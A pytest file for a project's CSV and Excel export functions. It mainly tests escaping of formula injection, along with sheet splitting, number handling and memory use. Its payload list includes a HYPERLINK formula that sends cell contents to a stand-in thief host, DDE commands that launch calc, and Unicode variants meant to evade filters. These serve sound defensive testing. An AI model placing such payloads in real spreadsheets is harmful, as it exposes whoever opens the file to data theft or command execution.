"""Tables for spreadsheets."""

import csv
import io
import tracemalloc
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from decimal import Decimal
from tempfile import TemporaryFile

import openpyxl
import pytest

from igny8_core.common.files import spreadsheets
from igny8_core.common.files.spreadsheets import Row, harmless, write_csv, write_xlsx

FORMULAS = [
    '=HYPERLINK("https://thief.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A1",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "a;=1+1;b",
    "a;=cmd|' /C calc'!A0",
    'a;"=1+1',
    "a; \t'=1+1",
    "a\t=1+1",
    "line\n=1+1",
    "line\r\n;+1+1",
    "\uff1d1+1",
    "\uff0b1\uff0b1",
    "a;\uff0d1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121+1",
    "\ufeff=1+1",
    "a;\u200b\u202e=1+1",
    "\xa0=1+1",
    "|calc",
]


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet may see a formula, after everything that it may skip."""
    seen = (c for c in cell if c != '"' and unicodedata.category(c) not in {"Cf", "Cc", "Zs"})
    first = next(seen, "")
    return unicodedata.normalize("NFKC", first) in {"=", "+", "-", "@", "|", "%", "\u2212"}


def test_formula_is_detected() -> None:
    assert all(is_formula(text.rpartition(";")[2].rpartition("\n")[2]) for text in ("a;=1", "\n=1"))
    assert not is_formula("'=1")


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", FORMULAS)
def test_csv_contains_no_formula_for_any_delimiter(text: str, delimiter: str) -> None:
    """Whatever sign it splits at: German, French and other spreadsheets split at semicolons."""
    file = io.BytesIO()
    write_csv(["Payment", "Notes", "Name"], [[1, text, text], [2, f'"{text}', text]], file)
    words = io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")
    for row in csv.reader(words, delimiter=delimiter):
        assert not [cell for cell in row if is_formula(cell)]


@pytest.mark.parametrize("text", FORMULAS)
def test_excel_cell_is_text_not_formula(text: str) -> None:
    file = io.BytesIO()
    write_xlsx(["Notes"], [[text]], file)
    sheet = openpyxl.load_workbook(file).active
    assert sheet is not None
    assert sheet["A2"].data_type == "s"
    assert str(sheet["A2"].value).replace("_x000D_", "\r") == text.strip()


@pytest.mark.parametrize(
    "text",
    ["Ali; thanks - for all", "a-b", "x=y", "50%", "", "ok\nthen", "a@b.example", "مرسی - \u06f5"],
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert harmless(text) == text


def test_formula_sign_is_escaped_in_place() -> None:
    assert harmless("=1;a;=2\n-3") == "'=1;a;'=2\n'-3"


def test_extra_rows_go_to_the_next_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "ROWS_OF_A_SHEET", 4)
    file = io.BytesIO()
    write_xlsx(["Number"], ([n] for n in range(7)), file)
    sheets = openpyxl.load_workbook(file).worksheets
    found = [[row[0].value for row in sheet.iter_rows(min_row=2)] for sheet in sheets]
    assert found == [[0, 1, 2], [3, 4, 5], [6]]
    assert {sheet["A1"].value for sheet in sheets} == {"Number"}


def test_long_number_is_written_as_text() -> None:
    file = io.BytesIO()
    exact = Decimal("123456789012345.678")
    write_xlsx(["A", "B"], [[exact, 10**15]], file)
    sheet = openpyxl.load_workbook(file).active
    assert sheet is not None
    assert [cell.value for cell in sheet[2]] == [str(exact), str(10**15)]


def test_csv_times_have_second_precision() -> None:
    file = io.BytesIO()
    write_csv(["At"], [[datetime(2026, 1, 2, 3, 4, 5, 678, UTC)]], file)
    assert file.getvalue().decode("utf-8-sig") == '"At"\r\n"2026-01-02 03:04:05"\r\n'


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_long_table_uses_constant_memory(write: Callable[..., None]) -> None:
    def rows() -> Iterator[Row]:
        return (["0123", "notes " * 50, Decimal("89.00")] for _ in range(3_000))

    with TemporaryFile() as file:
        tracemalloc.start()
        write(["a", "b", "c"], rows(), file)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert peak < 1024 * 1024
